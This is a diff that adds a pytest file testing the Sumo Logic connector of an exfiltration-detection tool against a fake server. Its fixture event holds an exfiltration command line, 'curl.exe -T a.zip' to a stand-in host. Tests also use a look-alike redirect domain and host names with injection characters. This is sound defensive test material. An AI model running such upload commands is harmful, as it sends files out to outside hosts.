@@ -1,0 +1,461 @@
+"""Sumo Logic against a server that answers as its documentation says."""
+
+import asyncio
+import json
+from typing import Any
+
+import pytest
+
+from exfilwatch.errors import AuthError, ConfigError, PartialResult, RateLimited, SourceError, Unreachable
+from exfilwatch.siem import sumo as module
+from exfilwatch.siem.registry import open_siem
+from exfilwatch.siem.siem import Ask, Clock, Near, Place, Siem
+from exfilwatch.siem.sumo import Sumo
+from exfilwatch.siem.sumo_search import search
+from exfilwatch.siem.sumo_settings import SumoSettings
+
+from .fake_sumo import ID, KEY, FakeSumo
+from .fetching import Naps, all_of, events, fetched, run
+from .loopback import Answer, Request, answer_json
+
+T0 = 1_773_306_842_000  # ms
+MS = 1_000  # µs
+CURL = "C:\\Windows\\System32\\curl.exe"
+COLLECTED = {
+    "TimeCreated": "2026-03-12T09:14:02+123000000Z",
+    "EventID": "1",
+    "Channel": "Microsoft-Windows-Sysmon/Operational",
+    "Provider": {"Name": "Microsoft-Windows-Sysmon"},
+    "Computer": "WS1.corp.example",
+    "EventRecordID": 4711,
+    "EventData": {"Image": CURL, "CommandLine": "curl.exe -T a.zip https://x.example/"},
+}
+
+
+def message(
+    ms: int = T0, received: int | None = None, searchable: int | None = None, **more: object
+) -> dict[str, object]:
+    received = ms + 2_000 if received is None else received
+    return {
+        "_messagetime": ms,
+        "_receipttime": received,
+        "_searchabletime": received + 3_000 if searchable is None else searchable,
+        "_messageid": "-9223372036854773763",
+        "_raw": json.dumps(COLLECTED),
+        "_sourcehost": "collector",
+        "_sourcecategory": "windows/sysmon",
+        **more,
+    }
+
+
+def client(server: FakeSumo, sleep: Naps | None = None, **settings: Any) -> Sumo:
+    made = {"url": server.url, "access_id": ID, "access_key": KEY, "scopes": ("_sourceCategory=windows/*",), **settings}
+    return Sumo("sl", SumoSettings.model_validate(made), sleep=sleep or Naps())
+
+
+@pytest.fixture
+def sumo():
+    with FakeSumo() as server:
+        yield server
+
+
+def test_the_messages_of_an_interval_become_events(sumo):
+    sumo.records = [message(T0 + n, T0 + n) for n in range(10)]
+    (event,) = events(fetched(client(sumo), (T0 + 3_004) * MS, (T0 + 3_005) * MS))
+    assert event.fields["CommandLine"] == "curl.exe -T a.zip https://x.example/"
+    assert (event.category, event.host) == ("process_creation", "WS1.corp.example")
+    assert (event.time, event.ingest_time) == ((T0 + 123) * MS, (T0 + 4) * MS)
+    assert sumo.jobs == {}
+
+
+@pytest.mark.parametrize("clock", Clock)
+@pytest.mark.parametrize("ingest", ["searchable", "receipt"])
+def test_intervals_that_meet_share_nothing_and_leave_nothing_out(sumo, clock, ingest):
+    sumo.records = [message(T0 + n, T0 + n, T0 + n, _n=n) for n in range(8)]
+    got = []
+    for start in range(T0 * MS, (T0 + 8) * MS, MS):
+        got += fetched(client(sumo, ingest=ingest), start, start + MS, clock=clock)
+    assert sorted(int(each["_n"]) for each in got) == list(range(8))
+    named = {"searchable": "searchableTime", "receipt": "receiptTime"}[ingest]
+    assert sumo.created[0]["intervalTimeType"] == (named if clock is Clock.INGEST else "messageTime")
+    assert sumo.created[0]["byReceiptTime"] is (clock is Clock.INGEST)
+
+
+def test_a_record_of_cloud_siem_gets_its_names_back(sumo):
+    sumo.records = [
+        message(
+            metadata_vendor="Microsoft",
+            metadata_product="Windows",
+            metadata_deviceEventId="Microsoft-Windows-Sysmon/Operational-1",
+            objectType="EndpointProcess",
+            device_hostname="WS1.corp.example",
+            baseImage=CURL,
+            commandLine="curl.exe -T a.zip https://x.example/",
+            parentCommandLine="cmd.exe /c up.cmd",
+            user_username="ann",
+            timestamp=T0,
+        )
+    ]
+    (record,) = fetched(client(sumo))
+    assert record["commandLine"] == "curl.exe -T a.zip https://x.example/"
+    (event,) = events([record])
+    assert (event.category, event.fields["ParentCommandLine"]) == ("process_creation", "cmd.exe /c up.cmd")
+    assert (event.host, event.ingest_time) == ("WS1.corp.example", (T0 + 2_000) * MS)
+
+
+def test_fields_that_a_search_extracted_do_not_hide_the_message(sumo):
+    sumo.records = [message(process="x", process_name="y", eventid="7")]
+    (event,) = events(fetched(client(sumo)))
+    assert event.fields["Image"] == CURL
+
+
+def test_a_text_is_of_the_host_that_sent_it(sumo):
+    line = 'type=USER_CMD msg=audit(1764000000.100:41): pid=701 uid=1000 cmd="ls" exe="/usr/bin/sudo"'
+    sumo.records = [message(_raw=line, _sourcehost="web1")]
+    assert [event.host for event in events(fetched(client(sumo)))] == ["web1"]
+
+
+def test_messages_come_page_by_page(sumo):
+    sumo.records = [message(T0 + n, _n=n) for n in range(25)]
+    sumo.largest_page = 7  # less than is asked for: pages have at most 100 MB
+    got = fetched(client(sumo, page=10))
+    assert sorted(int(each["_n"]) for each in got) == list(range(25))
+    asked = [request.query["offset"] for request in sumo.requests if request.path.endswith("/messages")]
+    assert asked == ["0", "7", "14", "21"]
+
+
+def test_each_scope_is_searched_by_itself(sumo):
+    fetched(client(sumo, scopes=("_index=sec_record_endpoint", "_sourceCategory=linux/*")))
+    assert [body["query"] for body in sumo.created] == ["(_index=sec_record_endpoint)", "(_sourceCategory=linux/*)"]
+    assert all(body["requiresRawMessages"] for body in sumo.created)
+
+
+def test_a_search_that_is_paused_is_partial(sumo):
+    sumo.records, sumo.cap = [message(T0 + n) for n in range(10)], 5
+    with pytest.raises(PartialResult, match="paused at 5 messages"):
+        fetched(client(sumo))
+    assert sumo.jobs == {}
+
+
+def test_a_search_that_reaches_the_cap_is_partial(sumo):
+    sumo.records = [message(T0 + n) for n in range(10)]
+    with pytest.raises(PartialResult, match="10 messages reach the `cap`"):
+        fetched(client(sumo, cap=10))
+
+
+@pytest.mark.parametrize(
+    ("state", "said"),
+    [
+        ({"messageCount": 3}, "2 of 3 messages came"),
+        ({"messageCount": 1}, "2 messages came instead of 1"),
+    ],
+)
+def test_counts_that_differ_are_partial(sumo, state, said):
+    sumo.records, sumo.state = [message(T0 + n) for n in range(2)], state
+    with pytest.raises(PartialResult, match=said):
+        fetched(client(sumo))
+
+
+def test_a_page_that_comes_twice_is_not_taken_for_the_next(sumo):
+    sumo.records = [message(T0 + n) for n in range(6)]
+    usual = sumo._page
+    sumo._page = lambda job, what, query: usual(job, what, {**query, "offset": "0"})
+    with pytest.raises(PartialResult, match="2 of 6 messages came"):
+        fetched(client(sumo, page=2))
+
+
+@pytest.mark.parametrize(
+    ("told", "text"),
+    [
+        ("errors", "The query failed on a node"),
+        ("warnings", "Query timed out: results are incomplete"),
+        ("warnings", "Partial results: the scan limit was reached"),
+    ],
+)
+def test_errors_and_warnings_of_missing_results_make_them_partial(sumo, told, text):
+    sumo.records = [message()]
+    setattr(sumo, told, [text])
+    with pytest.raises(PartialResult, match=text):
+        fetched(client(sumo))
+    assert len(fetched(client(sumo, ignore_messages=(text,)))) == 1
+
+
+def test_other_warnings_do_not_matter(sumo):
+    sumo.records, sumo.warnings = [message()], ["Field eventid is of mixed type"]
+    assert len(fetched(client(sumo))) == 1
+
+
+def test_a_search_that_takes_too_long_is_to_be_made_smaller(sumo):
+    sumo.looks_until_done, naps = 10**6, Naps()
+    with pytest.raises(PartialResult, match="more than 60 s"):
+        fetched(client(sumo, naps, patience="60s"))
+    assert max(naps.naps) <= 5.0  # a job that nobody asks for is gone after 20 s
+    assert sumo.jobs == {}
+
+
+@pytest.mark.parametrize("state", [None, "CANCELLED"])
+def test_a_job_that_gets_lost_is_started_again(sumo, state):
+    sumo.records, sumo.looks_until_done = [message()], 3
+    sumo.lose, usual = (0, sumo._look) if state else (2, sumo._look)
+    if state:
+        sumo._look = lambda name, job: answer_json({"state": state}) if len(sumo.created) < 3 else usual(name, job)
+    assert len(fetched(client(sumo))) == 1
+    assert len(sumo.created) == 3
+
+
+def test_a_job_that_gets_lost_while_it_is_read_is_started_again(sumo):
+    sumo.records = [message(T0 + n, _n=n) for n in range(4)]
+    usual = sumo._page
+
+    def page(job: Any, what: str, query: Any) -> Answer:
+        if query["offset"] == "2" and len(sumo.created) == 1:
+            return answer_json({"status": 400, "code": "searchjob.jobid.invalid", "message": "Job ID is invalid."}, 400)
+        return usual(job, what, query)
+
+    sumo._page = page
+    assert {each["_n"] for each in fetched(client(sumo, page=2))} == {"0", "1", "2", "3"}
+    assert len(sumo.created) == 2
+
+
+def test_a_job_that_keeps_getting_lost_is_given_up(sumo):
+    sumo.looks_until_done, sumo.lose = 3, 10**6
+    with pytest.raises(Unreachable, match="got lost 3 times"):
+        fetched(client(sumo))
+
+
+def test_a_job_is_kept_alive_while_its_pages_are_worked_on(sumo, monkeypatch):
+    monkeypatch.setattr(module, "_ALIVE", 0.001)
+    sumo.records = [message(T0 + n) for n in range(4)]
+    siem = client(sumo, page=2)
+
+    async def slowly() -> int:
+        count = 0
+        async for batch in siem.fetch(Ask(Clock.INGEST)):
+            count += len(batch)
+            (job,) = sumo.jobs.values()
+            looks = job.looks
+            while job.looks < looks + 3:
+                await asyncio.sleep(0.001)
+        return count
+
+    assert run(siem, slowly()) == 4
+
+
+def test_what_is_told_while_it_is_kept_alive_counts(sumo, monkeypatch):
+    monkeypatch.setattr(module, "_ALIVE", 0.001)
+    sumo.records = [message()]
+    siem = client(sumo)
+
+    async def slowly() -> None:
+        async for _batch in siem.fetch(Ask(Clock.INGEST)):
+            (job,) = sumo.jobs.values()
+            sumo.state = {"pendingErrors": ["a node failed"]}
+            looks = job.looks
+            while job.looks < looks + 2 and len(asyncio.all_tasks()) > 1:
+                await asyncio.sleep(0.001)
+
+    with pytest.raises(PartialResult, match="a node failed"):
+        run(siem, slowly())
+
+
+def test_a_job_is_deleted_when_nobody_reads_on_or_the_reader_is_cancelled(sumo):
+    sumo.records = [message(T0 + n) for n in range(10)]
+    siem = client(sumo, page=2)
+
+    async def first() -> None:
+        batches = siem.fetch(Ask(Clock.INGEST))
+        await anext(batches)
+        assert len(sumo.jobs) == 1
+        await batches.aclose()  # type: ignore[attr-defined]
+        assert sumo.jobs == {}
+
+    async def cancelled() -> None:
+        sumo.looks_until_done = 10**6
+        reading = asyncio.create_task(all_of(siem, Ask(Clock.INGEST)))
+        while not any(job.looks for job in list(sumo.jobs.values())):
+            await asyncio.sleep(0.001)
+        reading.cancel()
+        with pytest.raises(asyncio.CancelledError):
+            await reading
+        assert sumo.jobs == {}
+
+    run(siem, first())
+    run(siem, cancelled())
+
+
+def test_another_deployment_is_found_and_remembered(sumo):
+    with FakeSumo() as first:
+        first.moved = sumo.url
+        sumo.records = [message()]
+        siem = client(first)
+        assert len(run(siem, all_of(siem, Ask(Clock.INGEST)))) == 1
+        assert len(first.requests) == 1
+
+
+@pytest.mark.parametrize(
+    "where", ["https://api.sumologic.com.evil.example/x", "http://api.eu.sumologic.com/", "", "//x"]
+)
+def test_the_access_key_is_not_sent_elsewhere(sumo, where):
+    sumo.answer = lambda _request: Answer(301, headers={"Location": where})
+    with pytest.raises(SourceError, match="is sent on to"):
+        fetched(client(sumo))
+    assert len(sumo.requests) == 1
+
+
+def test_a_circle_of_endpoints_ends(sumo):
+    sumo.moved = sumo.url
+    with pytest.raises(SourceError, match="from endpoint to endpoint"):
+        fetched(client(sumo))
+
+
+def test_too_many_requests_are_waited_for_and_then_said(sumo):
+    sumo.records, sumo.throttled = [message()], 3
+    assert len(fetched(client(sumo))) == 1
+    sumo.throttled = 10**6
+    with pytest.raises(RateLimited, match=r"rate\.limit\.exceeded"):
+        fetched(client(sumo))
+
+
+def test_there_are_no_more_than_four_requests_a_second(sumo):
+    now, naps = 0.0, []
+
+    async def nap(seconds: float) -> None:
+        nonlocal now
+        naps.append(seconds)
+        now += seconds
+
+    siem = Sumo("sl", client(sumo).settings, sleep=nap, clock=lambda: now)  # type: ignore[arg-type]
+
+    async def twice() -> None:
+        for _ in range(2):
+            await asyncio.gather(*(siem.now() for _ in range(8)))
+
+    run(siem, twice())
+    assert len(sumo.requests) == 16
+    assert now >= 15 * 0.25
+
+
+def test_wrong_credentials_are_told_without_them(sumo):
+    with pytest.raises(AuthError, match=r"Credential could not be verified.*siem\.sl") as error:
+        fetched(client(sumo, access_key="wrong-and-secret"))
+    assert "secret" not in str(error.value)
+
+
+def test_a_search_that_is_not_taken_is_told_in_its_words(sumo):
+    sumo._create = lambda _body: answer_json(
+        {"code": "searchjob.parse.error", "message": "Unable to parse query."}, 400
+    )
+    with pytest.raises(SourceError, match=r"parse\.error: Unable to parse query"):
+        fetched(client(sumo))
+
+
+BODIES = {
+    "a proxy's page": Answer(200, b"<html><body>Sign in</body></html>", {"Content-Type": "text/html"}),
+    "nothing": Answer(200, b""),
+    "cut off": Answer(200, b'{"state":"DONE GATHERING RESULTS","messageCount":1,"pendi'),
+    "another type": Answer(200, b"[1, 2]"),
+    "no text": Answer(200, b"\xff\xfe\x00"),
+    "nested without end": Answer(200, b'{"messages":' + b"[" * 100_000),
+    "other members": Answer(200, b'{"id":[],"state":7,"messages":{"map":1}}'),
+    "messages without a map": Answer(200, b'{"id":{},"state":null,"messages":[{"map":null}]}'),
+    "gzip that is none": Answer(200, b"hello", {"Content-Encoding": "gzip"}),
+    "an error without a reason": Answer(500, b"<html/>"),
+}
+WHERE = {"create": ("POST", "/jobs"), "state": ("GET", "1"), "messages": ("GET", "/messages")}
+
+
+@pytest.mark.parametrize("body", BODIES)
+@pytest.mark.parametrize("where", WHERE)
+def test_what_is_no_answer_of_sumo_logic_is_an_error_and_no_crash(sumo, where, body):
+    sumo.records = [message()]
+    method, end = WHERE[where]
+    usual = sumo.answer
+
+    def answer(request: Request) -> Answer:
+        return BODIES[body] if request.method == method and request.path.endswith(end) else usual(request)
+
+    sumo.answer = answer
+    with pytest.raises(SourceError) as error:
+        fetched(client(sumo))
+    assert KEY not in str(error.value)
+    assert "Sign in" not in str(error.value)
+
+
+def test_places_are_the_scopes_and_what_is_wrong_with_them(sumo, monkeypatch):
+    monkeypatch.setattr(module.time, "time", lambda: T0 / 1000 + 60)
+    sumo.records = [message(T0 + n) for n in range(3)]
+    sumo.selects = lambda query, _record: "windows" in query
+    siem = client(sumo, scopes=("_sourceCategory=windows/*", "_sourceCategory=linux/*"))
+    first, second = run(siem, siem.places())
+    assert first == Place("_sourceCategory=windows/*", 3)
+    assert (second.records, "search filter" in second.problem) == (0, True)
+
+
+def test_its_clock_is_sumo_logics(sumo):
+    sumo.now = T0 / 1000 + 0.7
+    siem = client(sumo)
+    assert run(siem, siem.now()) == T0 * MS
+
+
+@pytest.mark.parametrize(
+    ("change", "said"),
+    [
+        ({"access_id": ""}, "access_id"),
+        ({"scopes": []}, "scopes"),
+        ({"scopes": ["a | count"]}, "give a condition"),
+        ({"scopes": ['"a']}, "give a condition"),
+        ({"at_once": 11}, "at_once"),
+        ({"page": 10_001}, "page"),
+        ({"scope": "x"}, "scope: there is no such setting"),
+    ],
+)
+def test_settings_that_are_wrong_are_told_by_name(change, said):
+    configured = {"kind": "sumo", "access_id": "id", "access_key": "s3cr3t", "scopes": ["x"], **change}
+    with pytest.raises(ConfigError, match=said) as error:
+        open_siem("sl", configured)
+    assert "s3cr3t" not in str(error.value)
+
+
+def test_it_is_a_siem_and_an_endpoint_may_be_given_as_it_is_listed():
+    configured = {"kind": "sumo", "access_id": "id", "access_key": "s3cr3t", "scopes": "a, b"}
+    for url in (
+        "https://api.eu.sumologic.com/api/",
+        "https://api.eu.sumologic.com/api/v1",
+        "https://api.eu.sumologic.com",
+    ):
+        siem = open_siem("sl", {**configured, "url": url})
+        assert isinstance(siem, Siem)
+        assert siem.settings.url == "https://api.eu.sumologic.com"
+        assert "s3cr3t" not in repr(siem.settings)
+        asyncio.run(siem.close())
+
+
+def test_rules_are_asked_for_as_pushdown_says(sumo, monkeypatch):
+    monkeypatch.setattr("exfilwatch.siem.queries.sumo.condition", lambda rules: f"| where c={len(rules)}")
+    monkeypatch.setattr("exfilwatch.siem.queries.sumo.score", lambda _rule: "| where s>5")
+    rules: Any = ("one", "two")
+    expected = {"off": ["(x)"], "candidates": ["(x) | where c=2"], "score": ["(x) | where c=1 | where s>5"] * 2}
+    for pushdown, queries in expected.items():
+        sumo.created.clear()
+        siem = client(sumo, pushdown=pushdown, scopes=("x",))
+        fetched(siem, rules=rules)
+        assert [body["query"] for body in sumo.created] == queries
+        assert siem.query(rules) == "\n".join(queries)
+
+
+def test_a_near_search_is_of_its_hosts_and_spans(sumo):
+    near = (Near("WS1", T0 * MS, T0 * MS + 1), Near("ws2.corp", (T0 + 9) * MS, (T0 + 90) * MS))
+    fetched(client(sumo, scopes=("x",)), near=near)
+    (body,) = sumo.created
+    assert (body["from"], body["to"], body["intervalTimeType"]) == (str(T0), str(T0 + 91), "messageTime")
+    assert body["query"] == (
+        '(x) (_sourceHost="WS1" or "WS1" or _sourceHost="ws2.corp" or "ws2.corp") | where'
+        f" (_messageTime >= {T0} and _messageTime <= {T0})"
+        f" or (_messageTime >= {T0 + 9} and _messageTime <= {T0 + 90})"
+    )
+
+
+@pytest.mark.parametrize("host", ['a"b', "a\\", "a|b", "a*", "?", "a b", "ẞ", "\n", "", "x" * 256, "$x", "a/b", "[x]"])
+def test_a_host_whose_name_may_mean_something_is_not_named(host):
+    ask = Ask(Clock.EVENT, near=(Near(host, 1_000, 2_000), Near("ws1", 1_000, 2_000)))
+    assert search("x", ask, "") == "(x) | where (_messageTime >= 1 and _messageTime <= 2)"
